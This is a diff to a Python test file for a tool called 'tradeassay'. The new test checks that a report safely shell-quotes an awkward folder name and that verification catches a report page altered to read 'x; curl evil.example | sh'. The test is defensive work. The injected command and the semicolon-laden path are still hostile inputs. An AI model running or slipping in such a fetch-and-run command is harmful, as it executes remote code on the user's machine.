@@ -1,6 +1,9 @@
 """``tradeassay code``: tasks, a program of one's own, runs, and what goes wrong."""
 
+import html
 import json
+import re
+import shlex
 from collections.abc import Callable
 from pathlib import Path
 
@@ -108,6 +111,16 @@ def test_a_run_without_programs_is_reported_verified_and_resumed(
     assert json.loads(capsys.readouterr().out)["cells"][0]["ends"] == {"no_code": 1}
     assert main([*argv, "--turns", "3", "--slug", "mute"]) == 2
     assert "holds another run: its turns differ" in capsys.readouterr().err
+    (place / "moved, ü").mkdir()
+    moved = (place / "runs/mute").rename(place / "moved, ü" / "Anna's run; at $HOME")
+    assert main(["verify", str(moved)]) == 0  # its page names the folder where it was written
+    assert main(["report", str(moved)]) == 0
+    assert f"verify {shlex.quote(str(moved))}" in html.unescape((moved / "report.html").read_text())
+    back = moved.rename(place / "runs/back")
+    assert main(["verify", str(back)]) == 0
+    page = (back / "report.html").read_text()
+    (back / "report.html").write_text(re.sub("(?<=tradeassay verify )[^<]+", "x; curl evil.example | sh", page))
+    assert main(["verify", str(back)]) == 1
 
 
 def test_an_item_without_a_result_is_an_exit_status(capsys: pytest.CaptureFixture[str], place: Path) -> None:
